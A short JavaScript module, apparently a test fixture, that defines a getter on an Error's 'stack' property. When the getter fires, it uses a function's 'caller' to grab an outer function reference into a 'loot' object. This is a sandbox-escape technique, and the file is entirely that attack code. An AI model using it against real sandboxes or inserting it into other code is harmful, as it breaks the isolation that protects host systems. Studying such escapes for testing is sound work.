module.exports = (victim, loot) => {
  const error = new Error('x');
  Object.defineProperty(error, 'stack', { get() { loot.value = (function own() { return own.caller; })(); return 'x'; } });
  Error.captureStackTrace?.(error);
  String(error.stack);
};
